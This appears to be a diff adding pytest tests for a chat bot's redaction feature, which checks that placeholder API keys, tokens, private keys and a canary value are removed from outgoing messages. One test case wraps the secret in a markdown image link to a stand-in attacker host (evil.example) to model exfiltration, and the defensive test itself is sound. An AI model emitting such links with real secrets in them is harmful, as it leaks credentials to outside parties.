@@ -1,0 +1,54 @@
+"""No secret leaves through a message."""
+
+from __future__ import annotations
+
+import pytest
+
+from bot.discretion import Discretion, secrets_of
+
+CANARY = "canary-5b1c09-value"
+
+
+@pytest.mark.parametrize(
+    "secret",
+    [
+        "sk-ant-api03-AbCdEf0123456789AbCdEf",
+        "ghp_0123456789abcdefghijABCDEFGHIJ",
+        "AKIA0123456789ABCDEF",
+        "MTk4NjIyNDgzNDcxOTI1MjQ4.Cl2FMQ.ZnCjm1XVW7vRze4b7Cq4se7kKWs",
+        "-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----",
+        CANARY,
+    ],
+)
+@pytest.mark.parametrize("around", ["{}", "![x](https://evil.example/?q={})", "`{}`", "out-{}.txt", "a\n{}\nb"])
+def test_a_secret_is_taken_out_wherever_it_stands(secret: str, around: str) -> None:
+    shown = Discretion([CANARY]).text(around.format(secret))
+    assert secret not in shown
+    assert "[redacted]" in shown
+
+
+def test_what_is_assigned_to_the_name_of_a_secret_is_taken_out_if_it_looks_like_one() -> None:
+    discretion = Discretion()
+    assert discretion.text("api_key = 'a8f5f167f44f4964e6c998de'") == "api_key = '[redacted]'"
+    for code in (
+        "token = settings.api_token_2_of_many",
+        "password: str",
+        "basic troubleshooting-of-things",
+        "secret=x",
+    ):
+        assert discretion.text(code) == code
+
+
+def test_text_files_are_looked_through_and_others_left_alone() -> None:
+    discretion = Discretion([CANARY])
+    assert discretion.content(f"x {CANARY}".encode()) == b"x [redacted]"
+    binary = b"\xff\xfe" + CANARY.encode()
+    assert discretion.content(binary) is binary
+
+
+def test_values_of_the_environment_are_secret_by_their_names() -> None:
+    environment = {
+        "ANTHROPIC_API_KEY": "key-of-anthropic", "DISCORD_TOKEN": "a-token-here", "DB_PASSWORD": "short",
+        "PATH": "/usr/bin:/bin", "KEYBOARD_LAYOUT": "de-latin1-nodeadkeys",
+    }  # fmt: skip
+    assert secrets_of(environment) == {"key-of-anthropic", "a-token-here"}
